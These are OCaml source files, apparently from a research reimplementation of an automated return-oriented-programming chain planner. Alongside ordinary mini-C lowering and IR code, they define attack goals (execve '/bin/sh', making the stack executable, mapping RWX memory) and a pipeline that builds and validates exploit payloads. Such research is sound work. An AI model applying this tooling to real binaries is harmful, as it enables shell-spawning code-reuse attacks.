  | Bglobal_blob               (* arrays / strings: name denotes an address *)

type ctx = {
  prog : Ir.program;
  func : Ir.func;
  mutable cur : Ir.block;                 (* block being filled (reversed instrs) *)
  mutable scopes : (string * binding) list list;
  mutable loops : (Ir.label * Ir.label) list;  (* (break, continue) *)
  globals : (string * binding) list;
  str_count : int ref;
  addr_taken : string list;               (* names forced into frame slots *)
}

let emit ctx i = ctx.cur.b_instrs <- i :: ctx.cur.b_instrs

(* Blocks collect instructions reversed; sealing restores order. *)
let seal_block ctx term =
  ctx.cur.b_term <- term;
  ctx.cur.b_instrs <- List.rev ctx.cur.b_instrs

let start_block ctx label =
  let b = { Ir.b_label = label; b_instrs = []; b_term = Ir.Ret None } in
  ctx.func.f_blocks <- ctx.func.f_blocks @ [ b ];
  ctx.cur <- b

let lookup ctx name =
  let rec in_scopes = function
    | [] -> List.assoc_opt name ctx.globals
    | s :: rest -> (
      match List.assoc_opt name s with Some b -> Some b | None -> in_scopes rest)
  in
  match in_scopes ctx.scopes with
  | Some b -> b
  | None -> fail "lowering: unbound variable %s" name

let bind ctx name b =
  match ctx.scopes with
  | s :: rest -> ctx.scopes <- ((name, b) :: s) :: rest
  | [] -> assert false

let as_temp ctx (op : Ir.operand) =
  match op with
  | Ir.T t -> t
  | _ ->
    let t = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Mov (t, op));
    t

let intern_string ctx s =
  let n = !(ctx.str_count) in
  incr ctx.str_count;
  let name = Printf.sprintf "str$%d" n in
  let bytes = Bytes.of_string (s ^ "\000") in
  Ir.add_data ctx.prog name bytes;
  name

let relop_of_ast = function
  | Gp_minic.Ast.Eq -> Ir.Eq | Gp_minic.Ast.Ne -> Ir.Ne
  | Gp_minic.Ast.Lt -> Ir.Lt | Gp_minic.Ast.Le -> Ir.Le
  | Gp_minic.Ast.Gt -> Ir.Gt | Gp_minic.Ast.Ge -> Ir.Ge
  | _ -> assert false

let binop_of_ast = function
  | Gp_minic.Ast.Add -> Ir.Add | Gp_minic.Ast.Sub -> Ir.Sub | Gp_minic.Ast.Mul -> Ir.Mul
  | Gp_minic.Ast.BitAnd -> Ir.And | Gp_minic.Ast.BitOr -> Ir.Or
  | Gp_minic.Ast.BitXor -> Ir.Xor
  | Gp_minic.Ast.Shl -> Ir.Shl | Gp_minic.Ast.Shr -> Ir.Sar
    (* C's >> on signed int is arithmetic in practice *)
  | _ -> assert false

(* ----- expressions ----- *)

let rec lower_expr ctx (e : Gp_minic.Ast.expr) : Ir.operand =
  match e with
  | Int v -> Ir.I v
  | Str s -> Ir.G (intern_string ctx s)
  | Var name -> (
    match lookup ctx name with
    | Btemp t -> Ir.T t
    | Bslot slot ->
      let a = Ir.fresh_temp ctx.func in
      emit ctx (Ir.AddrLocal (a, slot));
      let d = Ir.fresh_temp ctx.func in
      emit ctx (Ir.Load (d, Ir.T a, 0));
      Ir.T d
    | Barray (slot, size) ->
      let a = Ir.fresh_temp ctx.func in
      (* slots grow downward: the array base is its highest slot index *)
      emit ctx (Ir.AddrLocal (a, slot + size - 1));
      Ir.T a
    | Bglobal_scalar ->
      let d = Ir.fresh_temp ctx.func in
      emit ctx (Ir.Load (d, Ir.G name, 0));
      Ir.T d
    | Bglobal_blob -> Ir.G name)
  | Unary (Neg, a) ->
    let va = lower_expr ctx a in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Bin (Ir.Sub, d, Ir.I 0L, va));
    Ir.T d
  | Unary (BitNot, a) ->
    let va = lower_expr ctx a in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Bin (Ir.Xor, d, va, Ir.I (-1L)));
    Ir.T d
  | Unary (LogNot, a) ->
    let va = lower_expr ctx a in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Cmp (Ir.Eq, d, va, Ir.I 0L));
    Ir.T d
  | Binary (LogAnd, a, b) -> lower_shortcircuit ctx ~is_and:true a b
  | Binary (LogOr, a, b) -> lower_shortcircuit ctx ~is_and:false a b
  | Binary ((Eq | Ne | Lt | Le | Gt | Ge) as op, a, b) ->
    let va = lower_expr ctx a in
    let vb = lower_expr ctx b in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Cmp (relop_of_ast op, d, va, vb));
    Ir.T d
  | Binary (op, a, b) ->
    let va = lower_expr ctx a in
    let vb = lower_expr ctx b in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Bin (binop_of_ast op, d, va, vb));
    Ir.T d
  | Call (f, args) -> lower_call ctx f args
  | Index (a, i) ->
    let addr, off = lower_address ctx (Gp_minic.Ast.Index (a, i)) in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Load (d, addr, off));
    Ir.T d
  | Deref a ->
    let va = lower_expr ctx a in
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.Load (d, va, 0));
    Ir.T d
  | AddrOf lv ->
    let addr, off = lower_address ctx lv in
    if off = 0 then addr
    else begin
      let d = Ir.fresh_temp ctx.func in
      emit ctx (Ir.Bin (Ir.Add, d, addr, Ir.I (Int64.of_int off)));
      Ir.T d
    end

(* Address of an lvalue, as (base operand, byte offset). *)
and lower_address ctx (e : Gp_minic.Ast.expr) : Ir.operand * int =
  match e with
  | Var name -> (
    match lookup ctx name with
    | Btemp _ -> fail "cannot take the address of register variable %s" name
    | Bslot slot ->
      let a = Ir.fresh_temp ctx.func in
      emit ctx (Ir.AddrLocal (a, slot));
      (Ir.T a, 0)
    | Barray (slot, size) ->
      let a = Ir.fresh_temp ctx.func in
      emit ctx (Ir.AddrLocal (a, slot + size - 1));
      (Ir.T a, 0)
    | Bglobal_scalar | Bglobal_blob -> (Ir.G name, 0))
  | Index (a, i) -> (
    let base = lower_expr ctx a in
    match lower_expr ctx i with
    | Ir.I k -> (base, 8 * Int64.to_int k)
    | idx ->
      let scaled = Ir.fresh_temp ctx.func in
      emit ctx (Ir.Bin (Ir.Shl, scaled, idx, Ir.I 3L));
      let addr = Ir.fresh_temp ctx.func in
      emit ctx (Ir.Bin (Ir.Add, addr, base, Ir.T scaled));
      (Ir.T addr, 0))
  | Deref a -> (lower_expr ctx a, 0)
  | _ -> fail "expression is not an lvalue"

and lower_shortcircuit ctx ~is_and a b =
  let d = Ir.fresh_temp ctx.func in
  let l_rhs = Ir.fresh_label ctx.func "sc_rhs" in
  let l_done = Ir.fresh_label ctx.func "sc_done" in
  let l_short = Ir.fresh_label ctx.func "sc_short" in
  let va = lower_expr ctx a in
  let ta = as_temp ctx va in
  if is_and then seal_block ctx (Ir.Br (Ir.T ta, l_rhs, l_short))
  else seal_block ctx (Ir.Br (Ir.T ta, l_short, l_rhs));
  start_block ctx l_short;
  emit ctx (Ir.Mov (d, Ir.I (if is_and then 0L else 1L)));
  seal_block ctx (Ir.Jmp l_done);
  start_block ctx l_rhs;
  let vb = lower_expr ctx b in
  emit ctx (Ir.Cmp (Ir.Ne, d, vb, Ir.I 0L));
  seal_block ctx (Ir.Jmp l_done);
  start_block ctx l_done;
  Ir.T d

and lower_call ctx f args =
  let vargs = List.map (lower_expr ctx) args in
  match f, vargs with
  | "print", [ v ] ->
    (* write(1, &tmp, 8): spill to a slot so the value has an address *)
    let slot = Ir.alloc_slots ctx.func 1 in
    let a = Ir.fresh_temp ctx.func in
    emit ctx (Ir.AddrLocal (a, slot));
    emit ctx (Ir.Store (Ir.T a, 0, v));
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.SyscallI (Some d, [ Ir.I 1L; Ir.I 1L; Ir.T a; Ir.I 8L ]));
    Ir.T d
  | "exit", [ v ] ->
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.SyscallI (Some d, [ Ir.I 60L; v ]));
    Ir.T d
  | _ ->
    if List.length vargs > 6 then fail "%s: more than 6 arguments" f;
    let d = Ir.fresh_temp ctx.func in
    emit ctx (Ir.CallI (Some d, f, vargs));
    Ir.T d

(* ----- statements ----- *)

(* Scan a function body for address-taken scalars (&x forces x into memory). *)
let addr_taken_vars (body : Gp_minic.Ast.stmt list) =
  let acc = ref [] in
  let rec expr (e : Gp_minic.Ast.expr) =
    match e with
    | AddrOf (Var v) -> acc := v :: !acc
    | AddrOf a | Unary (_, a) | Deref a -> expr a
    | Binary (_, a, b) | Index (a, b) -> expr a; expr b
    | Call (_, args) -> List.iter expr args
    | Int _ | Str _ | Var _ -> ()
  in
  let rec stmt (s : Gp_minic.Ast.stmt) =
    match s with
    | Decl (_, init) -> Option.iter expr init
    | DeclArray _ -> ()
    | Assign (a, b) -> expr a; expr b
    | If (c, t, e) -> expr c; List.iter stmt t; List.iter stmt e
    | While (c, body) -> expr c; List.iter stmt body
    | For (i, c, st, body) ->
      Option.iter stmt i;
      Option.iter expr c;
      Option.iter stmt st;
      List.iter stmt body
    | Return e -> Option.iter expr e
    | Break | Continue -> ()
    | ExprStmt e -> expr e
    | Block body -> List.iter stmt body
  in
  List.iter stmt body;
  !acc

let rec lower_stmt ctx (s : Gp_minic.Ast.stmt) =
  match s with
  | Decl (name, init) ->
    let v = match init with Some e -> lower_expr ctx e | None -> Ir.I 0L in
    if List.mem name ctx.addr_taken then begin
      let slot = Ir.alloc_slots ctx.func 1 in
      let a = Ir.fresh_temp ctx.func in
      emit ctx (Ir.AddrLocal (a, slot));
      emit ctx (Ir.Store (Ir.T a, 0, v));
      bind ctx name (Bslot slot)
    end
    else begin
      let t = Ir.fresh_temp ctx.func in
      emit ctx (Ir.Mov (t, v));
      bind ctx name (Btemp t)
    end
  | DeclArray (name, size) ->
    let slot = Ir.alloc_slots ctx.func size in
    bind ctx name (Barray (slot, size))
  | Assign (lv, rhs) -> (
    let v = lower_expr ctx rhs in
    match lv with
    | Var name -> (
      match lookup ctx name with
      | Btemp t -> emit ctx (Ir.Mov (t, v))
      | Bslot slot ->
        let a = Ir.fresh_temp ctx.func in
        emit ctx (Ir.AddrLocal (a, slot));
        emit ctx (Ir.Store (Ir.T a, 0, v))
      | Bglobal_scalar -> emit ctx (Ir.Store (Ir.G name, 0, v))
      | Barray _ | Bglobal_blob -> fail "cannot assign to array %s" name)
    | _ ->
      let addr, off = lower_address ctx lv in
      emit ctx (Ir.Store (addr, off, v)))
  | If (c, then_, else_) ->
    let vc = lower_expr ctx c in
    let tc = as_temp ctx vc in
    let l_then = Ir.fresh_label ctx.func "then" in
    let l_else = Ir.fresh_label ctx.func "else" in
    let l_end = Ir.fresh_label ctx.func "endif" in
    seal_block ctx (Ir.Br (Ir.T tc, l_then, l_else));
    start_block ctx l_then;
    lower_stmts ctx then_;
    seal_block ctx (Ir.Jmp l_end);
    start_block ctx l_else;
    lower_stmts ctx else_;
    seal_block ctx (Ir.Jmp l_end);
    start_block ctx l_end
  | While (c, body) ->
    let l_cond = Ir.fresh_label ctx.func "wcond" in
    let l_body = Ir.fresh_label ctx.func "wbody" in
    let l_end = Ir.fresh_label ctx.func "wend" in
    seal_block ctx (Ir.Jmp l_cond);
    start_block ctx l_cond;
    let vc = lower_expr ctx c in
    let tc = as_temp ctx vc in
    seal_block ctx (Ir.Br (Ir.T tc, l_body, l_end));
    start_block ctx l_body;
    ctx.loops <- (l_end, l_cond) :: ctx.loops;
    lower_stmts ctx body;
    ctx.loops <- List.tl ctx.loops;
    seal_block ctx (Ir.Jmp l_cond);
    start_block ctx l_end
  | For (init, cond, step, body) ->
    ctx.scopes <- [] :: ctx.scopes;
    Option.iter (lower_stmt ctx) init;
    let l_cond = Ir.fresh_label ctx.func "fcond" in
    let l_body = Ir.fresh_label ctx.func "fbody" in
    let l_step = Ir.fresh_label ctx.func "fstep" in
    let l_end = Ir.fresh_label ctx.func "fend" in
    seal_block ctx (Ir.Jmp l_cond);
    start_block ctx l_cond;
    (match cond with
     | Some c ->
       let vc = lower_expr ctx c in
       let tc = as_temp ctx vc in
       seal_block ctx (Ir.Br (Ir.T tc, l_body, l_end))
     | None -> seal_block ctx (Ir.Jmp l_body));
    start_block ctx l_body;
    ctx.loops <- (l_end, l_step) :: ctx.loops;
    lower_stmts ctx body;
    ctx.loops <- List.tl ctx.loops;
    seal_block ctx (Ir.Jmp l_step);
    start_block ctx l_step;
    Option.iter (lower_stmt ctx) step;
    seal_block ctx (Ir.Jmp l_cond);
    start_block ctx l_end;
    ctx.scopes <- List.tl ctx.scopes
  | Return e ->
    let v = Option.map (lower_expr ctx) e in
    seal_block ctx (Ir.Ret v);
    start_block ctx (Ir.fresh_label ctx.func "dead")
  | Break -> (
    match ctx.loops with
    | (l_break, _) :: _ ->
      seal_block ctx (Ir.Jmp l_break);
      start_block ctx (Ir.fresh_label ctx.func "dead")
    | [] -> fail "break outside loop")
  | Continue -> (
    match ctx.loops with
    | (_, l_cont) :: _ ->
      seal_block ctx (Ir.Jmp l_cont);
      start_block ctx (Ir.fresh_label ctx.func "dead")
    | [] -> fail "continue outside loop")
  | ExprStmt e -> ignore (lower_expr ctx e)
  | Block body -> lower_stmts ctx body

and lower_stmts ctx stmts =
  ctx.scopes <- [] :: ctx.scopes;
  List.iter (lower_stmt ctx) stmts;
  ctx.scopes <- List.tl ctx.scopes

(* ----- functions and programs ----- *)

let lower_func prog globals str_count (f : Gp_minic.Ast.func) =
  let func =
    { Ir.f_name = f.fname;
      f_params = [];
      f_blocks = [];
      f_next_temp = 0;
      f_frame_slots = 0;
      f_next_label = 0 }
  in
  let entry = { Ir.b_label = f.fname ^ ".entry"; b_instrs = []; b_term = Ir.Ret None } in
  func.f_blocks <- [ entry ];
  let taken = addr_taken_vars f.body in
  let ctx =
    { prog; func; cur = entry; scopes = [ [] ]; loops = []; globals; str_count;
      addr_taken = taken }
  in
  (* parameters: one temp each; address-taken params are copied to a slot *)
  let params =
    List.map
      (fun name ->
        let t = Ir.fresh_temp func in
        if List.mem name taken then begin
          let slot = Ir.alloc_slots func 1 in
          let a = Ir.fresh_temp func in
          emit ctx (Ir.AddrLocal (a, slot));
          emit ctx (Ir.Store (Ir.T a, 0, Ir.T t));
          bind ctx name (Bslot slot)
        end
        else bind ctx name (Btemp t);
        t)
      f.params
  in
  func.f_params <- params;
  lower_stmts ctx f.body;
  (* fall off the end: return 0 *)
  seal_block ctx (Ir.Ret (Some (Ir.I 0L)));
  func

let lower_program (p : Gp_minic.Ast.program) : Ir.program =
  let prog = { Ir.p_funcs = []; p_data = [] } in
  (* globals first: they define the name environment *)
  let globals =
    List.map
      (fun (g : Gp_minic.Ast.global) ->
        let binding, bytes =
          match g.ginit with
          | Gint v -> (Bglobal_scalar, Gp_util.Hex.int64_le v)
          | Garray (size, init) ->
            let b = Bytes.make (8 * size) '\000' in
            List.iteri
              (fun i v -> if i < size then Bytes.set_int64_le b (8 * i) v)
              init;
            (Bglobal_blob, b)
          | Gstring s -> (Bglobal_blob, Bytes.of_string (s ^ "\000"))
        in
        Ir.add_data prog g.gname bytes;
        (g.gname, binding))
      p.globals
  in
  let str_count = ref 0 in
  prog.p_funcs <- List.map (lower_func prog globals str_count) p.funcs;
  prog
