(** Three-address IR with an explicit CFG.

    Sits between the mini-C front end and the x86 back end; it is also
    the level at which the Obfuscator-LLVM-style passes operate.
    [Switch] exists so control-flow flattening and the virtualization
    interpreter can lower to jump tables — which is what produces the
    indirect-jump gadgets the paper observes in obfuscated binaries. *)

type temp = int
(** Virtual register. *)

type operand =
  | T of temp       (** virtual register *)
  | I of int64      (** immediate *)
  | G of string     (** address of a global symbol *)

type binop = Add | Sub | Mul | And | Or | Xor | Shl | Shr | Sar

type relop = Eq | Ne | Lt | Le | Gt | Ge   (** signed *)

type instr =
  | Bin of binop * temp * operand * operand
  | Mov of temp * operand
  | Load of temp * operand * int            (** dst = mem[addr + off] *)
  | Store of operand * int * operand        (** mem[addr + off] = src *)
  | Cmp of relop * temp * operand * operand (** dst = (a rel b) ? 1 : 0 *)
  | CallI of temp option * string * operand list
  | CallPtr of temp option * operand * operand list  (** indirect call *)
  | SyscallI of temp option * operand list  (** number, then up to 3 args *)
  | AddrLocal of temp * int                 (** dst = address of frame slot *)

type label = string

type terminator =
  | Jmp of label
  | Br of operand * label * label           (** nonzero -> first *)
  | Switch of operand * label array         (** jump table; index in range *)
  | Ret of operand option

type block = {
  b_label : label;
  mutable b_instrs : instr list;
  mutable b_term : terminator;
}

type func = {
  f_name : string;
  mutable f_params : temp list;
  mutable f_blocks : block list;      (** head is the entry block *)
  mutable f_next_temp : int;
  mutable f_frame_slots : int;        (** 8-byte alloca slots *)
  mutable f_next_label : int;
}

type data = { d_name : string; d_bytes : Bytes.t }

type program = {
  mutable p_funcs : func list;
  mutable p_data : data list;
}

(** {1 Construction helpers} *)

val fresh_temp : func -> temp
val fresh_label : func -> string -> label
(** [fresh_label f prefix] — function-qualified unique label. *)

val alloc_slots : func -> int -> int
(** Reserve [n] 8-byte frame slots; returns the first index.  Slots grow
    DOWNWARD in memory: an array's base is its highest slot index. *)

val find_block : func -> label -> block
val add_data : program -> string -> Bytes.t -> unit
val successors : terminator -> label list

(** {1 Printing} *)

val string_of_operand : operand -> string
val string_of_instr : instr -> string
val string_of_terminator : terminator -> string
val string_of_func : func -> string
val string_of_program : program -> string

val func_size : func -> int
(** Instruction count, terminators included. *)

val program_size : program -> int

(** {1 Cloning}

    Obfuscation passes mutate in place; cloning lets one IR be compiled
    under many configurations. *)

val clone_block : block -> block
val clone_func : func -> func
val clone_program : program -> program
