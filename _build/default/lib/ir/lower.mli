(** Lowering mini-C AST to IR.

    Storage policy: scalars live in virtual registers unless their
    address is taken; arrays and address-taken scalars get frame slots.
    Short-circuit &&/|| and comparisons lower to explicit control flow,
    as an unoptimizing C compiler would emit. *)

exception Lower_error of string

val lower_program : Gp_minic.Ast.program -> Ir.program
