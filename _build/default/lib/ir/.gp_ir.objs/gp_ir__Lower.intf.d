lib/ir/lower.mli: Gp_minic Ir
