lib/ir/ir.ml: Array Buffer Bytes Int64 List Printf String
