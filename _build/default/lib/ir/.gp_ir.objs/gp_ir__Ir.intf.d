lib/ir/ir.mli: Bytes
