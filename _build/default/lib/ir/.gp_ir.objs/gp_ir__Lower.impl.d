lib/ir/lower.ml: Bytes Gp_minic Gp_util Int64 Ir List Option Printf
