(* High-level Gadget-Planner API: the four-stage pipeline of Fig. 3.

     image --(1) gadget extraction--> gadgets
           --(2) subsumption testing--> minimal pool
           --(3) partial-order planning--> plans
           --(4) post-processing + validation--> payloads

   [run] executes all four stages and returns only chains whose payloads
   drive the emulator to the goal syscall (validation-first; DESIGN.md). *)

type stage_stats = {
  extracted : int;
  deduped : int;
  pool_size : int;
  plans_found : int;
  chains_built : int;
  chains_validated : int;
  extract_time : float;
  subsume_time : float;
  plan_time : float;
}

type analysis = {
  image : Gp_util.Image.t;
  gadgets : Gadget.t list;      (* post-subsumption *)
  pool : Pool.t;
  raw_extracted : int;
  extract_time : float;
  subsume_time : float;
}

let timed f =
  let t0 = Unix.gettimeofday () in
  let r = f () in
  (r, Unix.gettimeofday () -. t0)


let analyze ?(extract_config = Extract.default_config) ?(subsume = true)
    (image : Gp_util.Image.t) : analysis =
  let harvested, extract_time = timed (fun () -> Extract.harvest ~config:extract_config image) in
  let (minimal, _stats), subsume_time =
    timed (fun () ->
        if subsume then Subsume.minimize harvested
        else (harvested, { Subsume.input = List.length harvested;
                           after_dedup = List.length harvested;
                           after_subsume = List.length harvested }))
  in
  { image;
    gadgets = minimal;
    pool = Pool.build minimal;
    raw_extracted = List.length harvested;
    extract_time;
    subsume_time }

type outcome = {
  goal : Goal.concrete;
  chains : Payload.chain list;   (* validated only *)
  stats : stage_stats;
}

let run_with_analysis ?(planner_config = Planner.default_config)
    ?(validate = true) (a : analysis) (goal : Goal.t) : outcome =
  let concrete = Goal.concretize a.image goal in
  (* a completed plan only counts if its payload assembles, is a chain we
     have not already emitted, and (when requested) survives end-to-end
     execution in the emulator *)
  let seen = Hashtbl.create 16 in
  let chains = ref [] in
  let accept p =
    match Payload.build_opt p concrete with
    | None -> false
    | Some c ->
      let k = Payload.chain_set_key c in
      if Hashtbl.mem seen k then false
      else begin
        Hashtbl.add seen k ();
        if (not validate) || Payload.validate a.image c then begin
          chains := c :: !chains;
          true
        end
        else false
      end
  in
  let result, plan_time =
    timed (fun () -> Planner.search ~config:planner_config ~accept a.pool concrete)
  in
  let built = List.rev !chains in
  let validated = built in
  { goal = concrete;
    chains = validated;
    stats =
      { extracted = a.raw_extracted;
        deduped = List.length a.gadgets;
        pool_size = Pool.size a.pool;
        plans_found = List.length result.Planner.plans;
        chains_built = List.length built;
        chains_validated = List.length validated;
        extract_time = a.extract_time;
        subsume_time = a.subsume_time;
        plan_time } }

let run ?extract_config ?(planner_config = Planner.default_config)
    ?(validate = true) (image : Gp_util.Image.t) (goal : Goal.t) : outcome =
  let a = analyze ?extract_config image in
  run_with_analysis ~planner_config ~validate a goal
