(* Attack goals (paper §II-B): the three real-world code-reuse endgames.

   A goal concretizes to the register state that must hold when a syscall
   instruction executes, plus optional memory cells that must have been
   written first (write-what-where, e.g. staging "/bin/sh" in scratch
   memory when the binary doesn't already contain it). *)

open Gp_x86

type t =
  | Execve of string        (* spawn a shell / program *)
  | Mprotect of int64 * int64 * int64   (* addr, len, prot *)
  | Mmap of int64 * int64 * int64

let name = function
  | Execve _ -> "execve"
  | Mprotect _ -> "mprotect"
  | Mmap _ -> "mmap"

let default_goals =
  [ Execve "/bin/sh";
    (* mark the stack page executable *)
    Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L);
    Mmap (0L, 0x1000L, 7L) ]

(* Search the image (code then data) for a NUL-terminated string; returns
   its absolute address. *)
let find_string (image : Gp_util.Image.t) (s : string) : int64 option =
  let needle = s ^ "\000" in
  let search (bytes : Bytes.t) (base : int64) =
    let hay = Bytes.to_string bytes in
    let n = String.length needle in
    let rec go i =
      if i + n > String.length hay then None
      else if String.sub hay i n = needle then Some (Int64.add base (Int64.of_int i))
      else go (i + 1)
    in
    go 0
  in
  match search image.Gp_util.Image.data image.Gp_util.Image.data_base with
  | Some a -> Some a
  | None -> search image.Gp_util.Image.code image.Gp_util.Image.code_base

(* Chunk a string into little-endian 8-byte words for write-what-where. *)
let string_words s =
  let s = s ^ "\000" in
  let nwords = (String.length s + 7) / 8 in
  List.init nwords (fun k ->
      let word = Bytes.make 8 '\000' in
      let len = min 8 (String.length s - (8 * k)) in
      Bytes.blit_string s (8 * k) word 0 len;
      Bytes.get_int64_le word 0)

type concrete = {
  goal : t;
  regs : (Reg.t * int64) list;        (* register state at the syscall *)
  mem : (int64 * int64) list;         (* cells that must be written first *)
}

(* Where attacker-built strings are staged.  The default is INSIDE the
   payload region (between the chain cells and the pin area), so staging
   needs no write gadgets: the cells arrive with the smashed stack.
   [scratch_staging_addr] is the alternative for write-what-where chains
   that build the string at run time. *)
let staging_addr () = Int64.add (Layout.payload_base ()) 0x600L

let scratch_staging_addr = 0x704000L

let concretize (image : Gp_util.Image.t) (goal : t) : concrete =
  match goal with
  | Execve path -> (
    match find_string image path with
    | Some addr ->
      { goal;
        regs = [ (Reg.RAX, 59L); (Reg.RDI, addr); (Reg.RSI, 0L); (Reg.RDX, 0L) ];
        mem = [] }
    | None ->
      (* stage the string in the payload itself *)
      let base = staging_addr () in
      let words = string_words path in
      { goal;
        regs =
          [ (Reg.RAX, 59L); (Reg.RDI, base); (Reg.RSI, 0L); (Reg.RDX, 0L) ];
        mem =
          List.mapi
            (fun k w -> (Int64.add base (Int64.of_int (8 * k)), w))
            words })
  | Mprotect (addr, len, prot) ->
    { goal;
      regs = [ (Reg.RAX, 10L); (Reg.RDI, addr); (Reg.RSI, len); (Reg.RDX, prot) ];
      mem = [] }
  | Mmap (addr, len, prot) ->
    { goal;
      regs = [ (Reg.RAX, 9L); (Reg.RDI, addr); (Reg.RSI, len); (Reg.RDX, prot) ];
      mem = [] }

(* Does an emulator outcome satisfy the goal? *)
let satisfied (c : concrete) (outcome : Gp_emu.Machine.outcome) =
  match c.goal, outcome with
  | Execve path, Gp_emu.Machine.Attacked (Gp_emu.Machine.Execve { path = p; argv; envp })
    -> p = path && argv = 0L && envp = 0L
  | Mprotect (a, l, pr), Gp_emu.Machine.Attacked (Gp_emu.Machine.Mprotect { addr; len; prot })
    -> addr = a && len = l && prot = pr
  | Mmap (a, l, pr), Gp_emu.Machine.Attacked (Gp_emu.Machine.Mmap { addr; len; prot })
    -> addr = a && len = l && prot = pr
  | _ -> false
