(* Register-indexed gadget library (paper §V): "the gadget library as a
   dictionary keyed on the register name" — the planner asks for gadgets
   affecting a specific register, which slashes the branching factor. *)

open Gp_x86

type t = {
  all : Gadget.t list;
  by_reg : (Reg.t * Gadget.t list) list;   (* gadgets that WRITE the register *)
  syscall_gadgets : Gadget.t list;         (* candidates for the final step *)
  mem_writers : Gadget.t list;             (* gadgets with pointer writes *)
}

let build (gadgets : Gadget.t list) : t =
  let by_reg =
    List.map
      (fun r ->
        ( r,
          List.filter (fun g -> List.mem r g.Gadget.clobbered) gadgets ))
      Reg.all
  in
  let rank (a : Gadget.t) (b : Gadget.t) =
    compare
      (List.length a.Gadget.pre, a.Gadget.len)
      (List.length b.Gadget.pre, b.Gadget.len)
  in
  { all = gadgets;
    by_reg;
    syscall_gadgets =
      List.sort rank (List.filter (fun g -> g.Gadget.syscall_state <> None) gadgets);
    mem_writers =
      List.sort rank (List.filter (fun g -> g.Gadget.ptr_writes <> []) gadgets) }

let setting t r = List.assoc r t.by_reg

let size t = List.length t.all
