(** Attack goals (paper §II-B): the three real-world code-reuse endgames. *)

type t =
  | Execve of string                    (** spawn a shell / program *)
  | Mprotect of int64 * int64 * int64   (** addr, len, prot *)
  | Mmap of int64 * int64 * int64

val name : t -> string

val default_goals : t list
(** execve /bin/sh; mprotect the stack page executable; mmap rwx. *)

val find_string : Gp_util.Image.t -> string -> int64 option
(** Address of a NUL-terminated string in the image (data then code). *)

val string_words : string -> int64 list
(** Little-endian 8-byte chunks (NUL-terminated) for write-what-where
    staging. *)

(** A goal concretized against a binary: the register state that must
    hold when a syscall executes, plus memory cells that must have been
    written first (e.g. staging "/bin/sh" when the binary lacks it). *)
type concrete = {
  goal : t;
  regs : (Gp_x86.Reg.t * int64) list;
  mem : (int64 * int64) list;
}

val staging_addr : unit -> int64
(** Where attacker-built strings are staged: inside the payload region,
    so staging needs no write gadgets — the cells arrive with the smashed
    stack. *)

val scratch_staging_addr : int64
(** Alternative staging area in emulator scratch, for write-what-where
    chains that build the string at run time. *)

val concretize : Gp_util.Image.t -> t -> concrete

val satisfied : concrete -> Gp_emu.Machine.outcome -> bool
(** Did an emulator run end in this exact attack (path and argument
    registers matching)? *)
