(** High-level Gadget-Planner API: the four-stage pipeline of Fig. 3.

    {v
    image --(1) gadget extraction----> gadgets
          --(2) subsumption testing--> minimal pool
          --(3) partial-order planning-> plans
          --(4) post-processing + validation-> payloads
    v}

    {!run} executes all four stages and returns only chains whose
    payloads drive the emulator to the goal syscall. *)

type stage_stats = {
  extracted : int;          (** summaries before minimization *)
  deduped : int;            (** pool after subsumption *)
  pool_size : int;
  plans_found : int;        (** accepted complete plans *)
  chains_built : int;
  chains_validated : int;
  extract_time : float;
  subsume_time : float;
  plan_time : float;
}

(** Stages 1–2, reusable across goals and planner configurations. *)
type analysis = {
  image : Gp_util.Image.t;
  gadgets : Gadget.t list;      (** post-subsumption *)
  pool : Pool.t;
  raw_extracted : int;
  extract_time : float;
  subsume_time : float;
}

val timed : (unit -> 'a) -> 'a * float

val analyze :
  ?extract_config:Extract.config -> ?subsume:bool -> Gp_util.Image.t -> analysis

type outcome = {
  goal : Goal.concrete;
  chains : Payload.chain list;   (** validated only *)
  stats : stage_stats;
}

val run_with_analysis :
  ?planner_config:Planner.config ->
  ?validate:bool ->
  analysis ->
  Goal.t ->
  outcome
(** Stages 3–4 over a prepared analysis.  Chains are deduplicated by
    gadget set and (unless [validate:false]) each one is confirmed by
    concrete execution before being counted. *)

val run :
  ?extract_config:Extract.config ->
  ?planner_config:Planner.config ->
  ?validate:bool ->
  Gp_util.Image.t ->
  Goal.t ->
  outcome
(** The whole pipeline in one call. *)
