(** Register-indexed gadget library (paper §V): the planner asks for
    gadgets affecting a specific register, which slashes the branching
    factor of the search. *)

type t = {
  all : Gadget.t list;
  by_reg : (Gp_x86.Reg.t * Gadget.t list) list;
      (** gadgets that WRITE each register *)
  syscall_gadgets : Gadget.t list;
      (** goal-step candidates, cheapest first *)
  mem_writers : Gadget.t list;
      (** gadgets with pointer writes (write-what-where), cheapest first *)
}

val build : Gadget.t list -> t

val setting : t -> Gp_x86.Reg.t -> Gadget.t list
(** Gadgets that write the register. *)

val size : t -> int
