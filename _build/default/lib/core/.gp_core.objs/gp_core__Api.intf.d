lib/core/api.mli: Extract Gadget Goal Gp_util Payload Planner Pool
