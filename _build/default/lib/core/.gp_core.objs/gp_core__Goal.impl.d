lib/core/goal.ml: Bytes Gp_emu Gp_util Gp_x86 Int64 Layout List Reg String
