lib/core/subsume.ml: Formula Gadget Gp_smt Gp_symx Gp_x86 Hashtbl List Solver String Term
