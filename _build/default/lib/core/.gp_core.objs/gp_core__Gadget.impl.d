lib/core/gadget.ml: Buffer Formula Gp_smt Gp_symx Gp_x86 Insn Int64 List Printf Reg String Term
