lib/core/pool.ml: Gadget Gp_x86 List Reg
