lib/core/gadget.mli: Formula Gp_smt Gp_symx Gp_x86 Term
