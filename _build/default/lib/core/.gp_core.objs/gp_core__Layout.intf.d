lib/core/layout.mli: Gp_smt
