lib/core/planner.ml: Gadget Goal Hashtbl Layout List Map Option Plan Pool Unix
