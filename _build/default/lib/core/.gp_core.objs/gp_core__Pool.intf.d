lib/core/pool.mli: Gadget Gp_x86
