lib/core/goal.mli: Gp_emu Gp_util Gp_x86
